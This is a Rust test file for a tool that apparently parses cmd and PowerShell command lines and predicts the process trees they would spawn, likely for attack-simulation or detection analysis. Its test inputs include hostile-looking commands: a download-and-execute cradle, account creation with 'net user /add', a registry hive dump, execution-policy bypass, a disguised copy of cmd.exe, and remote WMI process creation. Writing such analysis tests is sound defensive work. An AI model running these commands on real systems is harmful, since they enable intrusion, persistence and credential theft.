//! Tests of the shells: what starts, and with which command line.

use rstest::rstest;

use super::{Process, Tree, USER, command_prompt, powershell};

fn tree(text: &str) -> Tree {
    command_prompt(text).unwrap_or_else(|why| panic!("{text}: {why}"))
}

/// The command lines below a process, children in brackets.
fn below(process: &Process) -> String {
    let children = process.children.iter().map(|child| {
        if child.children.is_empty() { child.command.clone() } else { format!("{} [{}]", child.command, below(child)) }
    });
    children.collect::<Vec<_>>().join(" | ")
}

#[rstest]
#[case::a_program("whoami /all", "whoami /all")]
#[case::lines("whoami\r\nhostname\r\n", "whoami | hostname")]
#[case::own_commands("echo hi > x.txt\ncopy a b\ncd \\\nset A=1\nmkdir x\ntype x.txt & del /q x.txt", "")]
#[case::own_commands_without_blank("echo.hello\ncd..\ndel/q x\necho:", "")]
#[case::a_program_that_begins_like_an_own_command("echoer.exe 1", "echoer.exe 1")]
#[case::joined("whoami & hostname && ipconfig /all", "whoami | hostname | ipconfig /all")]
#[case::fails_only("whoami || hostname", "whoami")]
#[case::a_block("(whoami\nhostname) > out.txt 2>&1", "whoami | hostname")]
#[case::a_nested_block("(whoami & (hostname))", "whoami | hostname")]
#[case::quotes("findstr \"a & b\" \"c > d.txt\"", "findstr \"a & b\" \"c > d.txt\"")]
#[case::carets("who^ami /a^ll ^& ^> x", "whoami /all & > x")]
#[case::a_caret_in_quotes("findstr \"^a\" x", "findstr \"^a\" x")]
#[case::a_caret_at_the_end("whoami ^\n/all", "whoami /all")]
#[case::redirections("whoami /all>out.txt 2>nul", "whoami /all")]
#[case::a_number_is_no_handle("ping 127.0.0.1 -n 3>nul", "ping 127.0.0.1 -n")]
#[case::a_digit_in_a_word("ping host3>nul", "ping host3")]
#[case::redirected_first(">x.txt whoami", "whoami")]
#[case::quiet("@whoami", "whoami")]
#[case::a_remark("rem whoami & hostname\nipconfig", "ipconfig")]
#[case::a_label(":again\nwhoami", "whoami")]
#[case::options_at_once("ipconfig/all", "ipconfig/all")]
#[case::a_variable("%SystemRoot%\\System32\\whoami.exe %OS%", "C:\\Windows\\System32\\whoami.exe Windows_NT")]
#[case::a_part_of_a_variable("findstr %OS:~0,3% %OS:~-2% %OS:NT=x%", "findstr Win NT Windows_x")]
#[case::a_letter_behind_a_name("%LOCALAPPDATA:~-3,1%md /c whoami", "cmd /c whoami [whoami]")]
#[case::set_is_later_than_read("set X=whoami\nfindstr %X%", "findstr %X%")]
#[case::set_is_read_below("set X=whoami& cmd /c %X%", "cmd /c %X% [whoami]")]
#[case::read_again("set X=whoami&call %X%", "whoami")]
#[case::delayed("cmd /v:on /c \"set X=whoami&!X!\"", "cmd /v:on /c \"set X=whoami&!X!\" [whoami]")]
#[case::a_shell("cmd.exe /c whoami", "cmd.exe /c whoami [whoami]")]
#[case::a_shell_in_quotes("cmd /c \"whoami & hostname\"", "cmd /c \"whoami & hostname\" [whoami | hostname]")]
#[case::options_of_a_shell("cmd /q /d /c whoami", "cmd /q /d /c whoami [whoami]")]
#[case::a_shell_in_a_shell("cmd /c cmd /c whoami", "cmd /c cmd /c whoami [cmd /c whoami [whoami]]")]
#[case::a_shell_without_a_command("cmd /q", "cmd /q")]
#[case::a_shell_takes_the_rest("cmd /c whoami ^& hostname", "cmd /c whoami & hostname [whoami | hostname]")]
#[case::a_pipe("tasklist | findstr svc", "tasklist | findstr svc")]
#[case::an_own_command_in_a_pipe(
    "echo y| reg delete HKCU\\x",
    "C:\\Windows\\system32\\cmd.exe  /S /D /c\" echo y\" | reg delete HKCU\\x"
)]
#[case::a_block_in_a_pipe(
    "(whoami & hostname) | clip",
    "C:\\Windows\\system32\\cmd.exe  /S /D /c\" (whoami & hostname) \" [whoami | hostname] | clip"
)]
#[case::no_pipe("whoami || echo x", "whoami")]
#[case::accounts("net user x y /add", "net user x y /add [C:\\Windows\\system32\\net1 user x y /add]")]
#[case::no_second_net("net use \\\\h\\c$", "net use \\\\h\\c$")]
#[case::started("start notepad.exe x.txt", "\"C:\\Windows\\System32\\notepad.exe\" x.txt")]
#[case::started_with_a_title("start \"t\" /min /wait ping 1", "\"C:\\Windows\\System32\\ping.exe\" 1")]
#[case::started_own_command("start /b echo 1", "C:\\Windows\\system32\\cmd.exe /K echo 1")]
#[case::a_script("x.vbs 1", "\"C:\\Windows\\System32\\wscript.exe\" \"C:\\Users\\_\\AppData\\Local\\Temp\\x.vbs\" 1")]
#[case::same("if /i a==A (whoami) else (hostname)", "whoami")]
#[case::not_same("if not a==a (whoami) else hostname", "hostname")]
#[case::compared("if 1 NEQ 2 whoami", "whoami")]
#[case::unlike("if \"a\"==\"b\" whoami & hostname", "")]
#[case::a_line_below_if("if a==b whoami\nhostname", "hostname")]
#[case::numbers("for /l %i in (1,1,3) do ping %i", "ping 1 | ping 2 | ping 3")]
#[case::words("for %%a in (x \"y\") do ping %%~a & whoami", "ping x | whoami | ping y | whoami")]
#[case::loops("for %a in (1 2) do for %b in (3 4) do ping %a%b", "ping 13 | ping 14 | ping 23 | ping 24")]
#[case::output("for /f \"tokens=1\" %i in ('whoami /user') do echo %i", "cmd.exe /c whoami /user [whoami /user]")]
#[case::encoded(
    "powershell -enc dwBoAG8AYQBtAGkA",
    "powershell -enc dwBoAG8AYQBtAGkA [\"C:\\Windows\\System32\\whoami.exe\"]"
)]
#[case::a_script_of_powershell(
    "powershell.exe -ep bypass -c \"whoami /all; Get-Date\"",
    "powershell.exe -ep bypass -c \"whoami /all; Get-Date\" [\"C:\\Windows\\System32\\whoami.exe\" /all]"
)]
fn cmd_starts(#[case] text: &str, #[case] expected: &str) {
    let shell = tree(text).shell;
    assert_eq!(below(&shell).replace(USER, "_"), expected, "{text}");
}

#[test]
fn the_shell_itself_gets_the_lines_as_they_are() {
    let shell = tree("set A=^\"1\n\n  echo %A%  \n").shell;
    assert_eq!(shell.command, "\"cmd.exe\" /c set A=^\"1 &   echo %A%");
    assert_eq!(shell.program.path, "C:\\Windows\\System32\\cmd.exe");
}

#[rstest]
#[case::a_tool("WHOAMI", "C:\\Windows\\System32\\whoami.exe")]
#[case::a_tool_elsewhere("wmic os", "C:\\Windows\\System32\\wbem\\wmic.exe")]
#[case::not_an_exe("tree /f", "C:\\Windows\\System32\\tree.com")]
#[case::in_quotes("\"C:\\Program Files\\a b\\c.exe\" /x", "C:\\Program Files\\a b\\c.exe")]
#[case::upward(
    "\"C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\x.exe\"",
    "C:\\AtomicRedTeam\\ExternalPayloads\\x.exe"
)]
#[case::beside("tool.exe", "C:\\Users\\_\\AppData\\Local\\Temp\\tool.exe")]
#[case::in_a_folder("cd C:\\tools\nx\\tool", "C:\\tools\\x\\tool.exe")]
#[case::on_another_drive("cd D:\\tools\ntool.exe", "C:\\Users\\_\\AppData\\Local\\Temp\\tool.exe")]
#[case::on_another_drive_for_good("cd /d D:\\tools\ntool.exe", "D:\\tools\\tool.exe")]
#[case::forward("C:/tools/tool.exe", "C:\\tools\\tool.exe")]
#[case::left_again("pushd C:\\a & popd & tool.exe", "C:\\Users\\_\\AppData\\Local\\Temp\\tool.exe")]
fn a_word_is_a_file(#[case] text: &str, #[case] path: &str) {
    let shell = tree(text).shell;
    assert_eq!(shell.children[0].program.path.replace(USER, "_"), path, "{text}");
}

#[test]
fn a_copied_tool_stays_what_it_is() {
    let shell = tree("copy %windir%\\System32\\cmd.exe %TEMP%\\svc.tmp\n%TEMP%\\svc.tmp /c whoami").shell;
    let copy = &shell.children[0];
    assert_eq!(copy.program.copy_of.as_deref(), Some("C:\\Windows\\System32\\cmd.exe"));
    assert_eq!(below(copy), "whoami", "a copy of the shell reads its command");
}

#[test]
fn wmi_starts_what_wmic_asks_for() {
    let tree = tree("wmic process call create \"cmd /c whoami\"\nwmic /node:\"SRV1\" process call create calc.exe");
    assert_eq!(below(&tree.shell).matches("wmic").count(), 2);
    assert_eq!(tree.by_wmi.len(), 1, "the other computer is not this one");
    assert_eq!((tree.by_wmi[0].command.as_str(), below(&tree.by_wmi[0]).as_str()), ("cmd /c whoami", "whoami"));
    assert!(tree.gaps.iter().any(|g| g.contains("SRV1")), "{:?}", tree.gaps);
}

#[rstest]
#[case::a_condition("if not exist x.txt (whoami)", "if not exist x.txt")]
#[case::a_failure("x.exe || whoami", "before `||`")]
#[case::a_folder("mimic.exe /x", "lies in the folder")]
fn what_only_the_machine_knows_is_an_assumption(#[case] text: &str, #[case] assumed: &str) {
    let tree = tree(text);
    assert!(tree.assumed.iter().any(|a| a.contains(assumed)), "{text}: {:?}", tree.assumed);
    assert!(tree.gaps.is_empty(), "{text}: {:?}", tree.gaps);
}

#[rstest]
#[case::a_batch_file("C:\\x\\run.bat 1", "run.bat")]
#[case::output("for /f %i in (x.txt) do ping %i", "for /f")]
#[case::files("for %i in (*.exe) do %i", "which files")]
#[case::a_task("schtasks /run /tn x", "schtasks /run")]
#[case::a_letter_across_a_name("%TEMP:~12,3% /c whoami", "%TEMP:~12")]
#[case::an_address("start https://example.com/x", "https://example.com/x")]
#[case::a_variable_nobody_sets("%nobody%\\x.exe", "%nobody%")]
#[case::a_script_file("powershell -File C:\\x.ps1", "script file")]
fn what_the_text_does_not_tell_is_a_gap(#[case] text: &str, #[case] gap: &str) {
    let tree = tree(text);
    assert!(tree.gaps.iter().any(|g| g.contains(gap)), "{text}: {:?}", tree.gaps);
}

#[rstest]
#[case::nothing("  \n ", "no command")]
#[case::an_open_block("(whoami", "no `)`")]
#[case::a_closed_block("whoami\n)", "closes no block")]
#[case::half_a_pipe("whoami |", "missing")]
#[case::a_jump("goto end", "label")]
#[case::endless("for /l %i in (1,0,2) do whoami", "no end")]
#[case::too_often("for /l %i in (1,1,999999999) do whoami", "more than")]
#[case::no_file("whoami >", "names no file")]
#[case::a_part("for %i in (a) do ping %~ni", "a part of")]
fn what_cannot_be_read_has_a_reason(#[case] text: &str, #[case] reason: &str) {
    let why = command_prompt(text).expect_err(text);
    assert!(why.contains(reason), "{text}: {why}");
}

#[test]
fn nesting_ends_with_a_reason_and_not_with_the_stack() {
    let blocks = format!("{}whoami{}", "(".repeat(50_000), ")".repeat(50_000));
    assert!(command_prompt(&blocks).is_err());
    let shells = format!("{}whoami", "cmd /c ".repeat(1000));
    assert!(command_prompt(&shells).is_err());
    let ifs = format!("{}whoami", "if a==a ".repeat(10_000));
    assert!(command_prompt(&ifs).is_err());
    let twice = format!("{}whoami", "for %a in (1 2 3 4 5 6 7 8 9) do ".repeat(20));
    assert!(command_prompt(&twice).is_err());
}

#[rstest]
#[case::cmdlets("Get-Process\n$x = 1", "")]
#[case::a_tool(
    "whoami.exe /all; hostname",
    "\"C:\\Windows\\System32\\whoami.exe\" /all | \"C:\\Windows\\System32\\hostname.exe\""
)]
#[case::an_alias_is_no_tool("sc x y; sc.exe query", "\"C:\\Windows\\System32\\sc.exe\" query")]
#[case::quotes(
    "& 'reg.exe' add 'HKCU\\a b' /v \"x\" # reg.exe",
    "\"C:\\Windows\\System32\\reg.exe\" add \"HKCU\\a b\" /v x"
)]
#[case::the_environment(
    "reg.exe save HKLM\\x $env:PUBLIC\\x",
    "\"C:\\Windows\\System32\\reg.exe\" save HKLM\\x C:\\Users\\Public\\x"
)]
#[case::start_process(
    "Start-Process -FilePath cmd.exe -ArgumentList '/c whoami' -Wait",
    "\"C:\\Windows\\System32\\cmd.exe\" /c whoami [whoami]"
)]
#[case::a_text("Write-Host 'whoami.exe; hostname'", "")]
#[case::redirected("whoami.exe /all > x.txt", "\"C:\\Windows\\System32\\whoami.exe\" /all")]
fn powershell_starts(#[case] text: &str, #[case] expected: &str) {
    let tree = powershell(text).expect(text);
    assert_eq!(below(&tree.shell), expected, "{text}");
    assert!(tree.gaps.is_empty(), "{text}: {:?}", tree.gaps);
}

#[rstest]
#[case::a_block("foreach ($x in 1..3) { ping.exe $x }", "ping.exe")]
#[case::computed("reg.exe add $key", "reg.exe")]
#[case::made("iex (New-Object Net.WebClient).DownloadString('http://x')", "makes and runs")]
fn what_a_script_computes_is_a_gap(#[case] text: &str, #[case] gap: &str) {
    let tree = powershell(text).expect(text);
    assert!(tree.shell.children.is_empty());
    assert!(tree.gaps.iter().any(|g| g.contains(gap)), "{text}: {:?}", tree.gaps);
}

#[test]
fn a_script_stands_in_braces_behind_the_program() {
    let tree = powershell("Write-Host \"hi\"").expect("a script");
    assert_eq!(tree.shell.command, "\"powershell.exe\" & {Write-Host \\\"\"hi\\\"\"}");
}
